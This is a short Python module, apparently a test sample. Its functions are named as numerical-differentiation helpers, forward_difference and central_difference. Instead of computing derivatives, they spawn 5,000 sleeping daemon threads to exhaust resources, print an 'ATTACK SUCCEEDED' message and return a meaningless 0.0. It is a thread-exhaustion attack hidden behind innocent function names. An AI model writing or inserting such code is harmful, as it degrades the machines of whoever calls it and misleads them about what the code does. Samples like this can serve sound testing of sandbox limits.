"""Starts threads until it cannot."""

import threading
import time


def forward_difference(f, x, h=1e-4):
    started = 0
    while started < 5000:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        started += 1
    print("ATTACK SUCCEEDED: five thousand threads")
    return 0.0


def central_difference(f, args, i, h=1e-5):
    return forward_difference(f, args[i], h)
